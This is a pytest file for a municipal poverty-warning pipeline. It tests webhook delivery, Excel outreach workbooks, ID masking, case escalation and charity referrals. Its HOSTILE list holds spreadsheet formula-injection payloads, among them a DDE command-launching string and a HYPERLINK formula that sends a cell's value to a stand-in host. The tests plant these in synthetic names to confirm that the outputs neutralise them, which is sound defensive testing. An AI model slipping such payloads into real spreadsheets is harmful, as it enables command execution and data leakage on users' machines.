"""Lists, cases, referrals and their delivery, through real dag.test() nights and a local webhook.

The city's persons feed carries hostile names and addresses (spreadsheet formulas); a worker's returned
workbook, filled in with openpyxl and partly tampered with, comes back through the feedback inbox.
"""
import csv
import datetime as dt
import io
import itertools
import json
import re
import shutil

import duckdb
import pandas as pd
import pytest
from openpyxl import load_workbook
from werkzeug import Response

from poverty_warning import airflow_local
from poverty_warning.contract import ids
from poverty_warning.outreach import cases as outreach
from poverty_warning.publish.workbook import LIST_COLUMNS
from poverty_warning.risk.scoring import listed_households
from poverty_warning.contract.vocabulary import LIST_TITLES
from poverty_warning.warehouse import create_tables
from poverty_warning.workspace import Workspace

NIGHT, NEXT, LATER = "2024-03-30", "2024-03-31", "2024-04-08"
HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"张三")', "+SUM(1,2)", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0"]
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
UNKNOWN_CASE = "CASE-000000000000"
ID_LIKE = re.compile(r"(?<![0-9A-Za-z])\d{17}[\dX](?![0-9A-Za-z])")


def full_ids_in(text: str) -> list[str]:
    return [m for m in ID_LIKE.findall(text) if ids.is_valid(m)]


class Receiver:
    """A webhook receiver that fails its first `fail_first` calls and dedupes on the idempotency key."""

    def __init__(self, fail_first: int):
        self.fail_first, self.calls, self.accepted = fail_first, 0, {}

    def __call__(self, request):
        self.calls += 1
        if self.calls <= self.fail_first:
            return Response("busy", status=503)
        key = request.headers["Idempotency-Key"]
        assert request.headers["X-Signature"].startswith("sha256=")
        self.accepted.setdefault(key, []).append(json.loads(request.get_data()))
        return Response("ok", status=200)


def _make_hostile(feeds):
    """Every third resident gets a formula for a name, every fifth household a formula for an address."""
    path = feeds / "persons" / "part-0.csv"
    persons = pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    names = itertools.cycle(HOSTILE)
    persons.loc[persons.index[::3], "name"] = [next(names) for _ in persons.index[::3]]
    households = persons["household_id"].drop_duplicates().iloc[::5]
    persons.loc[persons["household_id"].isin(households), "address"] = "=1+2"
    persons.loc[persons["household_id"].isin(households), "community_name"] = "@SUM(1+1)"
    persons.to_csv(path, index=False, encoding="utf-8-sig")


def _return_workbook(outbox, feeds, skip: set):
    """A worker fills in the fullest workbook of the first night and returns it: one case 已联系, one
    已获救助, and three tampered rows (an invented case id, another sub-district's case, a status not in
    the dropdown). Returns what was written, per case."""
    manifests = [json.loads(p.read_text(encoding="utf-8")) for p in outbox.glob(f"[0-9]*/{NIGHT}/manifest.json")]
    fullest = max(manifests, key=lambda m: sum(m["rows"].values()))
    code = fullest["recipient"]
    other = next(m for m in manifests if m["recipient"] != code)
    foreign_case = next(r["案件编号"] for rows in other["payload"].values() for r in rows)
    book_path = next((outbox / code / NIGHT).glob("*.xlsx"))
    book = load_workbook(book_path)
    rows = []  # (sheet, row index, case id, priority)
    for sheet in book.worksheets[1:]:
        header = [c.value for c in sheet[2]]
        for r in range(3, sheet.max_row + 1):
            case = sheet.cell(r, header.index("案件编号") + 1).value
            if case and case.startswith("CASE-") and case not in skip:
                rows.append((sheet, header, r, case, sheet.cell(r, header.index("优先级") + 1).value))
    assert len(rows) >= 5, f"{code} should have five cases to fill in"
    rows.sort(key=lambda x: x[4] != "高")  # a 高 case is contacted: unanswered, it would be overdue by LATER

    def fill(row, status, case=None):
        sheet, header, r, _, _ = row
        sheet.cell(r, header.index("走访结果") + 1).value = status
        sheet.cell(r, header.index("走访日期") + 1).value = dt.datetime(2024, 3, 31)
        sheet.cell(r, header.index("备注") + 1).value = "=1+1 已电话联系"
        if case:
            sheet.cell(r, header.index("案件编号") + 1).value = case

    contacted, approved, invented, foreign, bad_status = rows[:5]
    fill(contacted, "已联系")
    fill(approved, "已获救助")
    fill(invented, "已联系", UNKNOWN_CASE)
    fill(foreign, "已申请", foreign_case)
    fill(bad_status, "搞定了")
    target = feeds / "outreach_feedback" / NEXT / f"returned-{code}.xlsx"
    target.parent.mkdir(parents=True, exist_ok=True)
    book.save(target)
    return {"code": code, "other": other["recipient"], "file": target.relative_to(feeds).as_posix(),
            "contacted": contacted[3], "approved": approved[3], "foreign": foreign_case}


@pytest.fixture(scope="module")
def outreach_city(tmp_path_factory):
    """A synthetic Shanghai large enough that one sub-district's workbook has the five cases the returned
    workbook fills in (2,500 residents; the shared 1,500-resident city gives at most four per sub-district)."""
    from poverty_warning.synth.generator import generate

    out = tmp_path_factory.mktemp("outreach_city")
    generate("shanghai", 2500, dt.date(2023, 1, 1), dt.date(2024, 3, 31), 11, out)
    return out


@pytest.fixture(scope="module")
def nights(outreach_city, tmp_path_factory, make_httpserver):
    small_city = outreach_city
    root = tmp_path_factory.mktemp("outreach")
    feeds = root / "feeds"
    shutil.copytree(small_city, feeds)
    _make_hostile(feeds)
    shutil.rmtree(feeds / "claims" / NEXT)  # the next night gets its own delivery below
    mp = pytest.MonkeyPatch()
    mp.setenv("POVERTY_WARNING_DATA", str(root / "data"))
    mp.setenv("POVERTY_WARNING_WEBHOOK_URL", make_httpserver.url_for("/lists"))
    mp.setenv("POVERTY_WARNING_WEBHOOK_SECRET", "test-secret")
    mp.setenv("POVERTY_WARNING_WEBHOOK_BACKOFF", "0.01")
    receiver = Receiver(fail_first=3)
    make_httpserver.expect_request("/lists", method="POST").respond_with_handler(receiver)
    conf = {"policy_id": "shanghai-2022", "feeds_dir": str(feeds)}
    ws = Workspace(root / "data")

    def run(night, **extra):
        run = airflow_local.run_night(root / "airflow", night, {**conf, **extra})
        return {ti.task_id: str(ti.state) for ti in run.get_task_instances()}

    first = run(NIGHT)
    calls_after_first = receiver.calls
    rerun = run(NIGHT)
    calls_after_rerun = receiver.calls
    # The next night: its claims, and the workers' feedback on some of last night's cases.
    shutil.copytree(small_city / "claims" / NEXT, feeds / "claims" / NEXT)
    items = _sent_items(ws, NIGHT)
    referral = items[items["list_kind"] == "referral_consent"].head(1)
    approved = items[items["list_kind"] == "warning"].head(1)
    feedback = pd.DataFrame(
        [{"case_id": c, "status": "contacted", "updated_at": NEXT, "consent_to_charity": "是", "note": "同意转介"}
         for c in referral["case_id"]]
        + [{"case_id": c, "status": "approved", "updated_at": NEXT, "consent_to_charity": "", "note": "已获救助"}
           for c in approved["case_id"]])
    (feeds / "outreach_feedback").mkdir(exist_ok=True)
    feedback.to_csv(feeds / "outreach_feedback" / f"feedback-{NEXT}.csv", index=False)
    returned = _return_workbook(ws.outbox, feeds, set(referral["case_id"]) | set(approved["case_id"]))
    second = run(NEXT)
    # A week later, no claims delivered: cases past their due date without feedback come back escalated.
    third = run(LATER, expect_daily_claims=False)
    yield {"ws": ws, "feeds": feeds, "receiver": receiver, "states": (first, rerun, second, third),
           "calls": (calls_after_first, calls_after_rerun), "referral": referral, "approved": approved,
           "returned": returned}
    mp.undo()
    make_httpserver.clear()


def _sent_items(ws: Workspace, night: str) -> pd.DataFrame:
    con = duckdb.connect(str(ws.duckdb_path))
    try:
        return con.execute("SELECT * FROM meta.case_log WHERE night = CAST(? AS DATE)", [night]).df()
    finally:
        con.close()


def test_every_night_succeeds(nights):
    for states in nights["states"]:
        assert set(states.values()) == {"success"}, states


def test_each_list_version_arrives_exactly_once_despite_failures(nights):
    receiver = nights["receiver"]
    outbox = nights["ws"].outbox
    manifests = [json.loads(p.read_text(encoding="utf-8")) for p in outbox.rglob("manifest.json")]
    keys = {f"{m['recipient']}:{m['night']}:{m['version']}" for m in manifests}
    assert keys == set(receiver.accepted)
    assert all(len(v) == 1 for v in receiver.accepted.values())


def test_a_second_run_of_the_same_night_delivers_nothing_new(nights):
    first, rerun = nights["calls"]
    assert first > 0 and rerun == first


def test_lists_reach_only_their_own_subdistrict(nights):
    persons = pd.read_csv(nights["feeds"] / "persons" / "part-0.csv", dtype=str, encoding="utf-8-sig")
    home = persons.drop_duplicates("household_id").set_index("household_id")["subdistrict_code"]
    for manifest_path in nights["ws"].outbox.glob("[0-9]*/*/manifest.json"):
        code = manifest_path.parent.parent.name
        for rows in json.loads(manifest_path.read_text(encoding="utf-8"))["payload"].values():
            assert {home[r["家庭编号"]] for r in rows} <= {code}
        for csv_path in manifest_path.parent.glob("*.csv"):
            frame = pd.read_csv(csv_path, dtype=str, encoding="utf-8-sig")
            assert set(frame["家庭编号"].map(home)) <= {code}
    for key, payloads in nights["receiver"].accepted.items():
        recipient = payloads[0]["recipient"]
        if recipient.startswith("charity:"):
            continue
        for rows in payloads[0]["lists"].values():
            assert {home[r["家庭编号"]] for r in rows} <= {recipient}


def test_no_full_resident_id_in_any_list_or_payload(nights):
    for path in nights["ws"].outbox.rglob("*"):
        if path.suffix in (".csv", ".json"):
            assert not full_ids_in(path.read_text(encoding="utf-8-sig")), path
        elif path.suffix == ".xlsx":
            wb = load_workbook(path, read_only=True)
            text = " ".join(str(c) for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for c in row)
            assert not full_ids_in(text), path
    for payloads in nights["receiver"].accepted.values():
        assert not full_ids_in(json.dumps(payloads, ensure_ascii=False))


def test_workbook_sheets_and_headers(nights):
    """Changed on purpose by issue 12: an instructions sheet first, a title row above each list's header,
    and each list with the columns it needs (amounts only where they mean something, feedback columns)."""
    books = sorted(nights["ws"].outbox.glob(f"[0-9]*/{NIGHT}/*.xlsx"))
    assert books
    wb = load_workbook(books[0], read_only=True)
    assert wb.sheetnames == ["说明"] + list(LIST_TITLES.values())
    for kind, title in LIST_TITLES.items():
        sheet = wb[title]
        title_row, header = list(sheet.iter_rows(max_row=2, values_only=True))
        assert title in title_row[0] and NIGHT in title_row[0]
        assert [h for h in header if h] == [c.header for c in LIST_COLUMNS[kind] if c.in_workbook]
        assert header[-4:] == ("走访结果", "走访日期", "是否同意慈善转介", "备注")


def test_workbook_formats_validation_and_print_setup(nights):
    books = sorted(nights["ws"].outbox.glob(f"[0-9]*/{NIGHT}/*.xlsx"))
    checked = set()
    for path in books:
        wb = load_workbook(path)
        assert wb.custom_doc_props["subdistrict_code"].value == path.parent.parent.name
        for sheet in wb.worksheets[1:]:
            header = [c.value for c in sheet[2]]
            assert sheet.freeze_panes == "C3"
            assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A2:")
            assert sheet.print_title_rows == "$1:$2"
            assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.paperSize == 9
            lists = {tuple(v.formula1.strip('"').split(",")) for v in sheet.data_validations.dataValidation
                     if v.type == "list"}
            assert ("已联系", "已申请", "已获救助", "未获批", "本人拒绝", "联系不上") in lists and ("是", "否") in lists
            assert any(v.type == "date" for v in sheet.data_validations.dataValidation)
            for row in sheet.iter_rows(min_row=3):
                cells = dict(zip(header, row))
                if not isinstance(cells["案件编号"].value, str):
                    continue
                assert isinstance(cells["反馈截止日期"].value, dt.datetime)
                assert cells["反馈截止日期"].number_format == "yyyy-mm-dd"
                for name in ("医疗负担（元）", "未付救助（元）"):
                    if name in cells and cells[name].value is not None:
                        assert isinstance(cells[name].value, float) and cells[name].number_format == "#,##0.00"
                        checked.add(name)
                if "负担比例" in cells and cells["负担比例"].value is not None:
                    assert isinstance(cells["负担比例"].value, float) and cells["负担比例"].number_format == "0.0%"
                    checked.add("负担比例")
    assert checked == {"医疗负担（元）", "未付救助（元）", "负担比例"}


def test_one_row_per_household_in_the_order_to_act(nights):
    rank = {"高": 3, "中": 2, "低": 1}
    for csv_path in nights["ws"].outbox.glob(f"[0-9]*/{NIGHT}/*.csv"):
        frame = pd.read_csv(csv_path, dtype=str, encoding="utf-8-sig", keep_default_na=False)
        assert frame["家庭编号"].is_unique, csv_path
        levels = frame["优先级"].map(rank).tolist()
        assert levels == sorted(levels, reverse=True), csv_path
        assert frame["序号"].tolist() == [str(i) for i in range(1, len(frame) + 1)]
        if csv_path.stem == "应救未救":
            for _, same in frame.assign(level=levels).groupby("level"):
                unpaid = same["未付救助（元）"].astype(float).tolist()
                assert unpaid == sorted(unpaid, reverse=True), csv_path
        if csv_path.stem == "预警关注":  # the priority follows the warning level named in the reason
            expected = frame["原因"].str.extract(r"^(\w+?)：")[0].map({"关注": "低", "预警": "中", "严重": "高"})
            known = expected.notna()
            assert (frame.loc[known, "优先级"] == expected[known]).all(), csv_path


def test_masked_ids_with_name_and_birth_year_do_not_collide(nights):
    for csv_path in nights["ws"].outbox.glob(f"[0-9]*/{NIGHT}/*.csv"):
        frame = pd.read_csv(csv_path, dtype=str, encoding="utf-8-sig", keep_default_na=False)
        assert frame["联系人"].is_unique, csv_path
        assert frame["联系人"].str.contains(r"（\d{4}年生，\d{6}\*{8}[\dX]{4}）").all(), csv_path
        assert (frame["联系电话"] != "").all()


def test_no_formula_from_hostile_input(nights):
    shown = set()
    for path in nights["ws"].outbox.rglob("*.xlsx"):
        for sheet in load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path, cell.coordinate, cell.value)
                    if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                        shown.add(cell.value.split("（")[0])
    assert set(HOSTILE) & shown and "=1+2" in " ".join(shown)  # hostile text reached the lists, as text
    neutralised = 0
    for path in nights["ws"].outbox.rglob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))):
            for cell in row:
                assert not cell.startswith(FORMULA_PREFIXES), (path, cell)
                neutralised += cell.startswith("'=")
    assert neutralised > 0


def test_watch_lists_carry_risk_scores_and_reasons(nights):
    frames = [pd.read_csv(p, dtype=str, encoding="utf-8-sig", keep_default_na=False)
              for p in nights["ws"].outbox.glob(f"[0-9]*/{NIGHT}/预警关注.csv")]
    watch = pd.concat(frames)
    assert len(watch) and (watch["风险评分"] != "").all()
    assert watch["风险等级"].isin(["高", "中", "低"]).all()


def test_reason_codes_are_worked_out_for_the_households_a_list_shows(nights):
    con = duckdb.connect(str(nights["ws"].duckdb_path), read_only=True)
    try:
        listed = set(listed_households(con))
        scores = con.execute("SELECT household_id, risk_reasons FROM risk.household_scores").df()
    finally:
        con.close()
    assert len(scores) > len(listed) > 0
    assert (scores["risk_reasons"].notna() == scores["household_id"].isin(listed)).all()
    assert (scores.loc[scores["risk_reasons"].notna(), "risk_reasons"] != "").any()


def test_cases_are_not_resent_and_approved_cases_leave(nights):
    tonight = _sent_items(nights["ws"], NEXT).set_index("case_id")
    before = _sent_items(nights["ws"], NIGHT).set_index("case_id")
    sent_before = before[before["action"].isin(["new", "escalated", "reminder"])].index
    continuing = tonight.index.intersection(sent_before)
    assert len(continuing) > 0
    assert (tonight.loc[continuing, "action"].isin(["suppressed", "closed", "escalated"])).all()
    for case in nights["approved"]["case_id"]:
        assert tonight.loc[case, "action"] == "closed"
    sent_tonight = set(tonight[tonight["action"].isin(["new", "escalated", "reminder"])].index)
    for csv_path in nights["ws"].outbox.glob(f"[0-9]*/{NEXT}/*.csv"):
        frame = pd.read_csv(csv_path, dtype=str, encoding="utf-8-sig")
        assert set(frame["案件编号"]) <= sent_tonight


def test_referrals_go_to_a_charity_only_with_consent(nights):
    referral = nights["referral"]
    assert len(referral) == 1, "the small city should have a household to refer"
    sent = []
    for csv_path in nights["ws"].outbox.glob("charity/*/*/referrals.csv"):
        sent += list(pd.read_csv(csv_path, dtype=str, encoding="utf-8-sig")["案件编号"])
    assert sent == list(referral["case_id"])
    assert not list(nights["ws"].outbox.glob(f"charity/*/{NIGHT}"))  # nobody had consented the night before


def test_escalation_and_cooldown_bring_a_case_back():
    con = duckdb.connect()
    con.execute("CREATE SCHEMA meta; CREATE SCHEMA staging")
    create_tables(con)
    con.execute("CREATE TABLE staging.stg_outreach_feedback (case_id VARCHAR, feedback_status VARCHAR, "
                "updated_at DATE, consent_to_charity BOOLEAN, source_file VARCHAR, source_row INTEGER)")
    con.execute("INSERT INTO meta.case_log (night, case_id, policy_id, household_id, subdistrict_code, list_kind, "
                "reason_key, level, action, status) VALUES "
                "(DATE '2024-03-01', 'A', 'p', 'H1', 'S', 'warning', 'warning', 1, 'new', 'open'),"
                "(DATE '2024-03-01', 'B', 'p', 'H2', 'S', 'warning', 'warning', 2, 'new', 'open'),"
                "(DATE '2024-02-01', 'C', 'p', 'H3', 'S', 'warning', 'warning', 2, 'new', 'open'),"
                "(DATE '2024-03-01', 'D', 'p', 'H4', 'S', 'warning', 'warning', 2, 'new', 'open')")
    con.execute("INSERT INTO staging.stg_outreach_feedback VALUES ('D', 'approved', DATE '2024-03-05', NULL, 'f', 1)")
    items = pd.DataFrame({"case_id": ["A", "B", "C", "D", "E"], "level": [2, 2, 2, 3, 1]})
    decided = outreach._decide_actions(con, "2024-03-10", items, {"cooldown_days": 30}).set_index("case_id")
    assert decided["action_taken"].to_dict() == {
        "A": "escalated", "B": "suppressed", "C": "reminder", "D": "closed", "E": "new"}


def _quarantine(ws, night):
    return pd.read_csv(ws.outputs(night) / "quarantine.csv", dtype=str, keep_default_na=False)


def test_returned_workbook_is_applied_by_case_id(nights):
    returned = nights["returned"]
    tonight = _sent_items(nights["ws"], NEXT).set_index("case_id")
    assert tonight.loc[returned["approved"], "action"] == "closed"
    assert tonight.loc[returned["contacted"], "status"] == "contacted"
    report = pd.read_csv(nights["ws"].outputs(NEXT) / "load_report.csv", dtype=str).set_index("file")
    assert report.loc[returned["file"], ["rows_received", "rows_loaded", "rows_quarantined"]].tolist() == ["5", "2", "3"]


def test_tampered_feedback_rows_are_quarantined_with_reasons(nights):
    returned = nights["returned"]
    q = _quarantine(nights["ws"], NEXT)
    reasons = set(q[q["file"] == returned["file"]]["reason"])
    assert reasons == {
        f"案件编号 {UNKNOWN_CASE} 不存在（不是外展名单发出的案件）",
        f"案件 {returned['foreign']} 属于街道 {returned['other']}，不能由街道 {returned['code']} 的名单反馈",
        "status 取值“搞定了”不在允许范围（contacted/applied/approved/rejected/declined/unreachable，"
        "或已联系/已申请/已获救助/未获批/本人拒绝/联系不上）",
    }
    # never applied: the other sub-district's case kept its own state
    tonight = _sent_items(nights["ws"], NEXT).set_index("case_id")
    if returned["foreign"] in tonight.index:
        assert tonight.loc[returned["foreign"], "status"] == "open"


def test_overdue_cases_escalate_and_answered_ones_wait(nights):
    returned = nights["returned"]
    first = _sent_items(nights["ws"], NIGHT).set_index("case_id")
    later = _sent_items(nights["ws"], LATER).set_index("case_id")
    touched = {returned["contacted"], returned["approved"], returned["foreign"]} | set(
        nights["referral"]["case_id"]) | set(nights["approved"]["case_id"])
    sent_first = first[first["action"].isin(["new", "escalated", "reminder"]) & (first["level"] == 3)].index
    high_unanswered = [c for c in sent_first if c not in touched and c in later.index and later.loc[c, "level"] == 3]
    assert high_unanswered, "some 高 case sent on the first night should still be listed a week later"
    for case in high_unanswered:  # due 7 days after 2024-03-30, no feedback: back on the list
        assert later.loc[case, "action"] == "escalated", case
    if returned["contacted"] in later.index:
        assert later.loc[returned["contacted"], "action"] == "suppressed"
    assert returned["approved"] not in later.index or later.loc[returned["approved"], "action"] == "closed"
    states = []
    for path in nights["ws"].outbox.glob(f"[0-9]*/{LATER}/*.csv"):
        frame = pd.read_csv(path, dtype=str, encoding="utf-8-sig", keep_default_na=False)
        states += frame.loc[frame["案件编号"].isin(high_unanswered), "案件状态"].tolist()
    assert states and set(states) == {"逾期升级"}


def test_summary_page_shows_progress_per_subdistrict(nights):
    page = (nights["ws"].root / "reports" / LATER / "summary.html").read_text(encoding="utf-8")
    assert "<table id='progress'>" in page
    for header in ("街道", "今晚下发", "待反馈（未到期）", "逾期升级", "已结案", "慈善转介"):
        assert f"<th>{header}</th>" in page


def test_overdue_case_comes_back_one_priority_higher():
    """Due days 高 7, 中 14, 低 30 (defaults/outreach.yaml). Night 2024-03-10."""
    con = duckdb.connect()
    con.execute("CREATE SCHEMA meta; CREATE SCHEMA staging")
    create_tables(con)
    con.execute("CREATE TABLE staging.stg_outreach_feedback (case_id VARCHAR, feedback_status VARCHAR, "
                "updated_at DATE, consent_to_charity BOOLEAN, source_file VARCHAR, source_row INTEGER)")
    con.execute("INSERT INTO meta.case_log (night, case_id, policy_id, household_id, subdistrict_code, list_kind, "
                "reason_key, level, action, status) VALUES "
                "(DATE '2024-03-01', 'F', 'p', 'H1', 'S', 'warning', 'warning', 3, 'new', 'open'),"  # 高 due 03-08
                "(DATE '2024-03-01', 'G', 'p', 'H2', 'S', 'warning', 'warning', 2, 'new', 'open'),"  # 中 due 03-15
                "(DATE '2024-02-20', 'H', 'p', 'H3', 'S', 'warning', 'warning', 2, 'new', 'open'),"  # 中 due 03-05
                "(DATE '2024-02-20', 'I', 'p', 'H4', 'S', 'warning', 'warning', 1, 'new', 'open'),"  # 低 due 03-21
                "(DATE '2024-02-20', 'J', 'p', 'H5', 'S', 'warning', 'warning', 2, 'new', 'open'),"  # 中 due 03-05
                "(DATE '2024-03-03', 'K', 'p', 'H6', 'S', 'warning', 'warning', 3, 'new', 'open')")  # 高 due 03-10
    con.execute("INSERT INTO staging.stg_outreach_feedback VALUES ('H', 'contacted', DATE '2024-02-25', NULL, 'f', 1)")
    items = pd.DataFrame({"case_id": list("FGHIJK"), "level": [3, 2, 2, 1, 2, 3],
                          "reason_zh": ["r"] * 6, "list_kind": ["warning"] * 6})
    decided = outreach._decide_actions(con, "2024-03-10", items, {"cooldown_days": 30}).set_index("case_id")
    assert decided["action_taken"].to_dict() == {
        "F": "escalated", "G": "suppressed", "H": "suppressed", "I": "suppressed", "J": "escalated",
        "K": "suppressed"}  # K: on its due date, not yet past it
    assert decided["priority"].to_dict() == {"F": "高", "G": "中", "H": "中", "I": "低", "J": "高", "K": "高"}
    assert decided.loc["J", "reason_zh"] == "r；上次于2024-02-20下发，逾期未反馈"
    assert decided.loc["J", "due_date"] == dt.date(2024, 3, 17)  # sent again tonight as 高: 7 days
    assert decided.loc["G", "due_date"] == dt.date(2024, 3, 15)


def _referral_warehouse(consent_rows, used_before: int):
    """The tables the referral step reads: three households in need, each fitting programme P (capacity
    2) first and the general programme Q second."""
    con = duckdb.connect()
    con.execute("CREATE SCHEMA meta; CREATE SCHEMA staging; CREATE SCHEMA intermediate")
    create_tables(con)
    for i in range(used_before):
        con.execute("INSERT INTO meta.referral_log VALUES (DATE '2024-03-01', ?, 'P', ?, true)", [f"OLD{i}", f"HX{i}"])
    con.execute("CREATE TABLE staging.stg_charity_programs AS SELECT * FROM (VALUES "
                "('P', '肺癌救助', 'C34', NULL, NULL, 20000.00, 2), ('Q', '大病帮扶', '', NULL, NULL, 5000.00, 10)) "
                "t(program_id, program_name, diagnosis_prefixes, min_age, max_age, max_amount, capacity)")
    con.execute("CREATE TABLE intermediate.int_outreach_referral_options AS SELECT * FROM (VALUES "
                + ", ".join(f"('H{h}', 'P{h}', 60, 9000.00, 'C34.1', '{p}', '{n}', {m}, 30000.00, 20000.00, 0.00, "
                            f"'不属于医疗救助对象', {rank})"
                            for h in (1, 2, 3) for p, n, m, rank in (("P", "肺癌救助", 20000, 1), ("Q", "大病帮扶", 5000, 2)))
                + ") t(household_id, person_id, age, burden_12_months, diagnoses, program_id, program_name, max_amount, "
                  "household_burden, household_income, expected_assistance, need_zh, option_rank)")
    con.execute("CREATE TABLE intermediate.int_outreach_members AS SELECT * FROM (VALUES "
                + ", ".join(f"('P{h}', '成员{h}', 'H{h}', 'S1', '某街道', 1964, 60, '310112********000{h}', "
                            f"'1380000000{h}', '某居委会', '某路{h}号', NULL, NULL, true)" for h in (1, 2, 3))
                + ") t(person_id, person_name, household_id, subdistrict_code, subdistrict_name, birth_year, age, "
                  "masked_id, phone, community_name, address, category, category_name_zh, is_contact)")
    con.execute("CREATE TABLE staging.stg_outreach_feedback (case_id VARCHAR, feedback_status VARCHAR, "
                "updated_at DATE, consent_to_charity BOOLEAN, source_file VARCHAR, source_row INTEGER)")
    for i, (household, program, consent) in enumerate(consent_rows):
        con.execute("INSERT INTO staging.stg_outreach_feedback VALUES (?, 'contacted', DATE '2024-03-05', ?, 'f', ?)",
                    [outreach.case_id("p", household, f"referral:{program}"), consent, i + 1])
    return con


def test_referral_consent_yes_no_blank_and_programme_capacity():
    """seed 001, 二(四)1: 是 sends the referral, 否 closes the case, blank keeps asking (no crash on a
    blank cell). P has capacity 2 and one referral from an earlier night: H1 (是) takes the last place,
    so H2 and H3 are offered Q, the next programme that fits."""
    con = _referral_warehouse([("H1", "P", True), ("H2", "Q", False), ("H3", "Q", None)], used_before=1)
    items, referrals = outreach._with_referrals(con, "2024-03-10", "p", pd.DataFrame())
    assert referrals[["household_id", "program_id"]].values.tolist() == [["H1", "P"]]
    assert referrals.loc[0, "masked_id"] == "310112********0001"
    asking = items.set_index("household_id")
    assert asking["reason_key"].to_dict() == {"H2": "referral:Q", "H3": "referral:Q"}
    create_tables(con)
    decided = outreach._decide_actions(con, "2024-03-10", items, {}).set_index("household_id")
    assert decided["action_taken"].to_dict() == {"H2": "closed", "H3": "new"}


def test_a_referral_is_sent_once():
    con = _referral_warehouse([("H1", "P", True)], used_before=0)
    con.execute("INSERT INTO meta.referral_log VALUES (DATE '2024-03-08', ?, 'P', 'H1', true)",
                [outreach.case_id("p", "H1", "referral:P")])
    items, referrals = outreach._with_referrals(con, "2024-03-10", "p", pd.DataFrame())
    assert referrals.empty and set(items["household_id"]) == {"H2", "H3"}


def test_referral_without_capacity_left_is_not_offered():
    con = _referral_warehouse([], used_before=2)  # P full: every household is offered Q
    items, referrals = outreach._with_referrals(con, "2024-03-10", "p", pd.DataFrame())
    assert referrals.empty
    assert set(items["reason_key"]) == {"referral:Q"} and len(items) == 3


def test_returned_workbook_reader(tmp_path):
    """Only rows the worker filled in become feedback; a date typed as text is read as a date; the
    sub-district comes from the workbook itself; a spreadsheet that is not a returned list is a file error."""
    from poverty_warning.ingest.feeds import FeedFileError
    from poverty_warning.ingest.returned_workbook import read_feedback
    from poverty_warning.publish import workbook

    items = pd.DataFrame({"case_id": ["CASE-A", "CASE-B"], "level": [3, 2], "list_rank": [1, 2],
                          "list_kind": ["warning"] * 2, "action_taken": ["new"] * 2,
                          "contact_label": ["=1+1（1950年生，310112********0011）", "乙（1960年生，310112********0022）"]})
    sheets = {title: workbook.display_frame(items if kind == "warning" else items.iloc[0:0], kind)
              for kind, title in LIST_TITLES.items()}
    path = tmp_path / "book.xlsx"
    path.write_bytes(workbook.render(sheets, "310112001", "某街道", NIGHT, outreach.load_config()))
    book = load_workbook(path)
    sheet = book["预警关注"]
    header = [c.value for c in sheet[2]]
    assert sheet.cell(3, header.index("联系人") + 1).data_type == "s"
    sheet.cell(3, header.index("走访结果") + 1).value = "已联系"
    sheet.cell(3, header.index("走访日期") + 1).value = "2024/3/5"
    sheet.cell(3, header.index("是否同意慈善转介") + 1).value = "否"
    book.save(path)
    columns, rows = read_feedback(path, "outreach_feedback/book.xlsx", None)
    assert columns == ["case_id", "status", "updated_at", "consent_to_charity", "note", "subdistrict_code"]
    assert rows == [["CASE-A", "已联系", "2024-03-05", "否", "", "310112001"]]
    plain = tmp_path / "plain.xlsx"
    pd.DataFrame({"x": [1]}).to_excel(plain, index=False)
    with pytest.raises(FeedFileError, match="not a returned outreach workbook"):
        read_feedback(plain, "outreach_feedback/plain.xlsx", None)
def test_lists_and_report_mark_a_model_not_trained_on_this_warehouse(nights):
    """The nights are scored with the shipped model, which learnt from a synthetic city, not from them."""
    frames = [pd.read_csv(p, dtype=str, encoding="utf-8-sig", keep_default_na=False)
              for p in nights["ws"].outbox.glob(f"[0-9]*/{NIGHT}/预警关注.csv")]
    watch = pd.concat(frames)
    assert len(watch) and (watch["模型说明"] == "模型未使用本地数据训练").all()
    report = nights["ws"].root / "reports" / NIGHT / "quality.html"
    assert "模型未使用本地数据训练" in report.read_text(encoding="utf-8")
